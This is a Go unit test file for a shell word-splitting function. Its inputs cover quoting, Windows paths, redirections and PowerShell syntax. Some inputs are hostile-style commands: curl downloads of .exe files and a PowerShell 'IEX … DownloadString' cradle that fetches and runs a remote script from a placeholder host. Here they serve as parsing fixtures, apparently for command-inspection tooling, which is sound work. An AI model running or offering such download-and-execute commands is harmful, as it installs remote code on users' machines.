package shellwords

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/require"
)

func TestSplit(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		expected []string
	}{
		{
			name:     "double quotes group and are removed",
			input:    `curl -o "a b.exe" http://x/y`,
			expected: []string{"curl", "-o", "a b.exe", "http://x/y"},
		},
		{
			name:     "single quotes",
			input:    "echo 'b c' d",
			expected: []string{"echo", "b c", "d"},
		},
		{
			name:     "quotes inside a word",
			input:    `pre"mid"post`,
			expected: []string{"premidpost"},
		},
		{
			name:     "windows paths keep backslashes",
			input:    `C:\Windows\System32\curl.exe -O http://h/p.exe`,
			expected: []string{`C:\Windows\System32\curl.exe`, "-O", "http://h/p.exe"},
		},
		{
			name:     "dollar inside double quotes is literal text",
			input:    `powershell -c "Write-Host $env:TEMP"`,
			expected: []string{"powershell", "-c", "Write-Host $env:TEMP"},
		},
		{
			name:     "words of every statement in order",
			input:    "a; b | c",
			expected: []string{"a", "b", "c"},
		},
		{
			name:     "redirections are dropped",
			input:    "curl http://x 2>nul",
			expected: []string{"curl", "http://x"},
		},
		{
			name:     "empty input",
			input:    "   ",
			expected: nil,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			actual, err := Split(tt.input)
			require.NoError(t, err)
			if diff := cmp.Diff(tt.expected, actual); diff != "" {
				t.Errorf("Split(%q) mismatch (-expected +actual):\n%s", tt.input, diff)
			}
		})
	}
}

func TestSplitFallsBackOnShellSyntax(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		expected []string
	}{
		{
			name:     "bare parentheses",
			input:    "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
			expected: []string{"powershell", "-nop", "-c", "IEX", "(New-Object", "Net.WebClient).DownloadString(http://x/a.ps1)"},
		},
		{
			name:     "backtick escape",
			input:    "powershell -c Write-Host a`tb",
			expected: []string{"powershell", "-c", "Write-Host", "a`tb"},
		},
		{
			name:     "quoted group survives",
			input:    `powershell -c "Write-Host (1+1)" (x)`,
			expected: []string{"powershell", "-c", "Write-Host (1+1)", "(x)"},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			actual, err := Split(tt.input)
			require.NoError(t, err)
			if diff := cmp.Diff(tt.expected, actual); diff != "" {
				t.Errorf("Split(%q) mismatch (-expected +actual):\n%s", tt.input, diff)
			}
		})
	}
}

func TestSplitErrors(t *testing.T) {
	for _, input := range []string{`powershell -c "unterminated`, "curl 'open"} {
		_, err := Split(input)
		require.Error(t, err, input)
	}
}
